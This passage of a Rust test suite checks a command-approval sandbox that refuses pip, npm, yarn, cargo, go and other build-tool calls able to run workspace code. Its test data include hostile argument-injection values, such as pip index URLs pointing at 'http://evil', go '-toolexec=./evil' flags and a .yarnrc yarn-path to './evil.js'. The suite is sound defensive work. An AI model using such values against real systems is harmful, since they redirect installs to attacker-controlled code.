            ("install -rrequirements.txt", WORKSPACE_CODE_RULE),
            ("install --requirement=r.txt", WORKSPACE_CODE_RULE),
            ("install -e .", WORKSPACE_CODE_RULE),
            ("install -c c.txt requests", WORKSPACE_CODE_RULE),
            ("install --group dev", WORKSPACE_CODE_RULE),
            ("install .", WORKSPACE_CODE_RULE),
            ("install mypkg", WORKSPACE_CODE_RULE),
            ("install x.tar.gz", WORKSPACE_CODE_RULE),
            ("wheel ./mypkg", WORKSPACE_CODE_RULE),
            (
                "install -i http://evil/simple requests",
                "argument injection",
            ),
            (
                "install --index-url=http://evil/simple x",
                "argument injection",
            ),
            ("install --extra http://evil/simple x", "argument injection"),
            ("install -f dist requests", "argument injection"),
            (
                "install git+https://example.com/x.git",
                "argument injection",
            ),
            ("install https://example.com/x.tar.gz", "argument injection"),
            ("install x@https://example.com/x.zip", "argument injection"),
            ("--python ./evil list", "argument injection"),
        ];
        for (args, label) in cases {
            let why = check_pip(&argv(args), Some(&ws)).unwrap_err();
            assert!(why.starts_with(label), "pip {args}: {why}");
        }
        let why = check_pip(&argv("install -r requirements.txt"), Some(&ws)).unwrap_err();
        assert_eq!(
            why,
            "runs code the workspace holds: `pip install` may run the setup code of the source to build from that `-r` names (code the workspace can write)"
        );
    }

    #[test]
    fn node_package_managers_run_no_script() {
        let sandbox = Sandbox::new("node-packages");
        let ws = sandbox.dir("ws");
        let place = Place::at(&ws);
        let cases: &[(&str, &str, bool)] = &[
            ("npm", "ls", true),
            ("npm", "ls --all --json", true),
            ("npm", "--json ls", true),
            ("npm", "--prefix=sub ls", true),
            ("npm", "view react version", true),
            ("npm", "outdated", true),
            ("npm", "audit", true),
            ("npm", "config get registry", true),
            ("npm", "--version", true),
            ("npm", "", true),
            ("pnpm", "list --depth=0", true),
            ("pnpm", "why react", true),
            ("yarn", "why react", true),
            ("yarn", "--version", true),
            ("npx", "--version", true),
            // Scripts of package.json, install scripts, runners.
            ("npm", "test", false),
            ("npm", "t", false),
            ("npm", "start", false),
            ("npm", "run build", false),
            ("npm", "run-script build", false),
            ("npm", "install", false),
            ("npm", "i", false),
            ("npm", "insta", false),
            ("npm", "ci", false),
            ("npm", "install --global x", false),
            ("npm", "rebuild", false),
            ("npm", "version patch", false),
            ("npm", "pack", false),
            ("npm", "publish", false),
            ("npm", "init vite", false),
            ("npm", "create vite", false),
            ("npm", "exec tsc", false),
            ("npm", "x tsc", false),
            ("npm", "explore pkg -- sh", false),
            ("npm", "help install", false),
            ("npm", "doctor", false),
            ("npm", "audit fix", false),
            ("npm", "config edit", false),
            ("npm", "pkg set scripts.x=id", false),
            ("npm", "--prefix ls install", false),
            ("npm", "--prefix dir explore pkg -- sh", false),
            ("npm", "LS", false),
            ("pnpm", "install", false),
            ("pnpm", "build", false),
            ("pnpm", "run build", false),
            ("pnpm", "exec id", false),
            ("pnpm", "dlx x", false),
            ("pnpm", "--dir x exec id", false),
            ("pnpm", "audit --fix", false),
            ("yarn", "", false),
            ("yarn", "--silent", false),
            ("yarn", "build", false),
            ("yarn", "--silent build", false),
            ("yarn", "--cwd ls build", false),
            ("yarn", "install", false),
            ("yarn", "add x", false),
            ("yarn", "exec id", false),
            ("yarn", "dlx x", false),
            ("npx", "tsc", false),
            ("npx", "-y cowsay", false),
            ("npx", "", false),
            ("pnpx", "x", false),
            ("bunx", "x", false),
        ];
        for (name, args, want) in cases {
            let got = check_node_package_manager(name, &argv(args), place);
            assert_eq!(got.is_ok(), *want, "{name} {args}: {got:?}");
        }
    }

    /// Build tools and test runners as a new user called them (repro 13: `make test` and
    /// `cargo test` were approved beside a refused `npm test`), with the forms that run nothing.
    const RUNNER_CALLS: &[(&str, &str, bool)] = &[
        ("make", "", false),
        ("make", "test", false),
        ("make", "-n", false),
        ("make", "-j4 all", false),
        ("gmake", "install", false),
        ("make", "--version", true),
        ("make", "-v", true),
        ("cargo", "build", false),
        ("cargo", "test", false),
        ("cargo", "run", false),
        ("cargo", "check", false),
        ("cargo", "clippy", false),
        ("cargo", "metadata", false),
        ("cargo", "tree", false),
        ("cargo", "+nightly build", false),
        ("cargo", "-q build", false),
        ("cargo", "--version", true),
        ("cargo", "-V", true),
        ("cargo", "version", true),
        ("cargo", "locate-project", true),
        ("go", "test ./...", false),
        ("go", "run .", false),
        ("go", "build", false),
        ("go", "generate ./...", false),
        ("go", "vet ./...", false),
        ("go", "tool foo", false),
        ("go", "install ./cmd/x", false),
        ("go", "list -toolexec=./evil ./...", false),
        ("go", "list --exec ./evil", false),
        ("go", "list -export ./...", false),
        ("go", "env -w GOFLAGS=-toolexec=./evil", false),
        ("go", "-C sub build", false),
        ("go", "version", true),
        ("go", "env GOPATH", true),
        ("go", "list -m all", true),
        ("go", "mod tidy", true),
        ("go", "doc fmt.Println", true),
        ("mvn", "test", false),
        ("mvn", "-v", false),
        ("mvn", "--version", false),
        ("gradle", "build", false),
        ("gradlew", "test", false),
        ("gradle", "--version", false),
        ("pytest", "", false),
        ("pytest", "-q tests/", false),
        ("pytest", "--version", false),
        ("py.test", "", false),
        ("tox", "", false),
        ("tox", "-e py312", false),
        ("rake", "", false),
        ("rake", "test", false),
        ("rake", "--version", true),
        ("bundle", "exec rspec", false),
        ("bundle", "install", false),
        ("bundle", "list", false),
        ("bundle", "--version", true),
        ("just", "", false),
        ("just", "build", false),
        ("just", "--version", true),
        ("cmake", "--build build", false),
        ("cmake", "-S . -B build", false),
        ("cmake", "-P x.cmake", false),
        ("cmake", "--version", true),
        ("ninja", "", false),
        ("ninja", "-n", false),
        ("ninja", "-C build", false),
        ("ninja", "--version", true),
        ("meson", "compile -C build", false),
        ("meson", "setup build", false),
        ("meson", "--version", true),
        ("dotnet", "test", false),
        ("dotnet", "build", false),
        ("dotnet", "--info", true),
        ("swift", "build", false),
        ("swift", "package describe", false),
        ("swift", "--version", true),
        ("zig", "build", false),
        ("zig", "run x.zig", false),
        ("zig", "version", true),
        ("uv", "run pytest", false),
        ("uv", "sync", false),
        ("uv", "--version", true),
        ("poetry", "install", false),
        ("composer", "install", false),
        ("sbt", "test", false),
        ("bazel", "test //...", false),
        ("bazel", "version", false),
        ("ctest", "", false),
        ("ant", "", false),
        ("ant", "-version", true),
        // New-user review 3, item 4 (repro 20): test runners, bundlers and linters that load
        // workspace configuration, plugins or tests were approved.
        ("jest", "", false),
        ("vitest", "run", false),
        ("mocha", "", false),
        ("webpack", "", false),
        ("vite", "build", false),
        ("next", "build", false),
        ("eslint", "src", false),
        ("prettier", "--check .", false),
        ("pylint", "src", false),
        ("mypy", "src", false),
        ("flake8", ".", false),
        ("pre-commit", "run -a", false),
        ("rollup", "-c", false),
        ("parcel", "build", false),
        ("phpunit", "", false),
        ("rspec", "", false),
        ("buck2", "test //...", false),
        ("pants", "test ::", false),
        ("nx", "test", false),
        ("turbo", "run test", false),
        ("lerna", "run test", false),
        ("nox", "", false),
        ("mix", "test", false),
        ("lein", "test", false),
        ("tsc", "--noEmit", false),
        ("tsc", "", false),
        ("tsc", "-p tsconfig.json", false),
        ("jest", "--version", true),
        ("vitest", "--version", true),
        ("eslint", "--version", true),
        ("prettier", "--version", true),
        ("pylint", "--version", true),
        ("mypy", "--version", true),
        ("pre-commit", "--version", true),
        ("tsc", "--version", true),
        ("vite", "--help", true),
        // pytest loads conftest.py and plugins (addopts -p) before it prints its version.
        ("pytest", "--version", false),
        ("cargo", "fmt --check", false),
        ("uv", "pip list", false),
        ("uv", "pip freeze", false),
        // Any other argument beside an info option runs the build.
        ("cargo", "--version build", false),
        ("make", "--version test", false),
    ];

    #[test]
    fn build_tools_run_no_workspace_code() {
        for (name, args, want) in RUNNER_CALLS {
            let got = check_workspace_runner(name, &argv(args));
            assert_eq!(got.is_ok(), *want, "{name} {args}: {got:?}");
            if let Err(why) = got {
                let rule = match *name {
                    "tsc" => WORKSPACE_WRITES_RULE,
                    _ => WORKSPACE_CODE_RULE,
                };
                assert!(
                    why.starts_with(&format!("{rule}: `{name}"))
                        && (rule == WORKSPACE_WRITES_RULE
                            || why.ends_with("(code the workspace can write)")),
                    "{name} {args}: {why}"
                );
            }
        }
        // npm's refusal has the same wording.
        let sandbox = Sandbox::new("runner-wording");
        let ws = sandbox.dir("ws");
        let npm = check_node_package_manager("npm", &argv("test"), Place::at(&ws));
        let npm = npm.unwrap_err();
        assert!(
            npm.starts_with(&format!("{WORKSPACE_CODE_RULE}: `npm test`"))
                && npm.ends_with("(code the workspace can write)"),
            "{npm}"
        );
    }

    /// New-user review 3, item 11: each refusal names what the call runs under the right
    /// label (npx runs a package, not an injected argument; cargo fmt builds nothing, but a
    /// workspace alias replaces it; uv pip list runs the environment's interpreter; tsc writes
    /// where tsconfig.json says).
    #[test]
    fn refusals_name_what_the_call_runs() {
        let sandbox = Sandbox::new("runner-reasons");
        let ws = sandbox.dir("ws");
        let npx = check_node_package_manager("npx", &argv("tsc --noEmit"), Place::at(&ws));
        let npx = npx.unwrap_err();
        assert!(
            npx.starts_with(&format!("{WORKSPACE_CODE_RULE}: `npx tsc`"))
                && npx.contains("a package's program"),
            "{npx}"
        );
        let cases: &[(&str, &str, &str, &str)] = &[
            ("cargo", "fmt --check", "`cargo fmt`", "[alias] fmt"),
            ("cargo", "clippy", "`cargo clippy`", "build scripts"),
            ("uv", "pip list", "`uv pip`", ".venv"),
            ("uv", "run pytest", "`uv run`", "project's scripts"),
            ("tsc", "--noEmit", "`tsc --noEmit`", "tsBuildInfoFile"),
            (
                "pytest",
                "--version",
                "`pytest --version`",
                "loaded for --version too",
            ),
            ("make", "-n", "`make -n`", "even with -n"),
            ("prettier", "--check .", "`prettier --check`", "plugins"),
            ("pylint", "src", "`pylint src`", "init-hook"),
        ];
        for (name, args, shown, runs) in cases {
            let why = check_workspace_runner(name, &argv(args)).unwrap_err();
            assert!(
                why.contains(shown) && why.contains(runs),
                "{name} {args}: {why}"
            );
            assert!(!why.contains("argument injection"), "{why}");
        }
        assert!(!check_workspace_runner("cargo", &argv("fmt"))
            .unwrap_err()
            .contains("procedural macros"));
    }

    #[test]
    fn a_yarnrc_that_runs_code_refuses_every_yarn_command() {
        let sandbox = Sandbox::new("yarnrc");
        let ws = sandbox.dir("ws");
        let sub = sandbox.dir("ws/sub");
        let place = Place::at(&sub);
        assert!(check_node_package_manager("yarn", &argv("why x"), place).is_ok());
        // Seen in Yarn Berry repositories: `.yarnrc.yml` runs the checked-in release.
        for (file, text) in [
            (".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n"),
            (".yarnrc.yml", "plugins:\n  - path: .yarn/plugins/x.cjs\n"),
            (".yarnrc", "yarn-path \"./evil.js\"\n"),
        ] {
            std::fs::write(ws.join(file), text).unwrap();
            let why = check_node_package_manager("yarn", &argv("why x"), place).unwrap_err();
            assert!(why.contains(file), "{why}");
            std::fs::remove_file(ws.join(file)).unwrap();
        }
        std::fs::write(ws.join(".yarnrc.yml"), "nodeLinker: node-modules\n").unwrap();
        assert!(check_node_package_manager("yarn", &argv("why x"), place).is_ok());
        std::fs::write(ws.join(".npmrc"), "onload-script=./x.js\n").unwrap();
        assert!(check_node_package_manager("npm", &argv("ls"), place).is_err());
        assert!(check_node_package_manager("npm", &argv("ls"), Place::default()).is_err());
    }
}
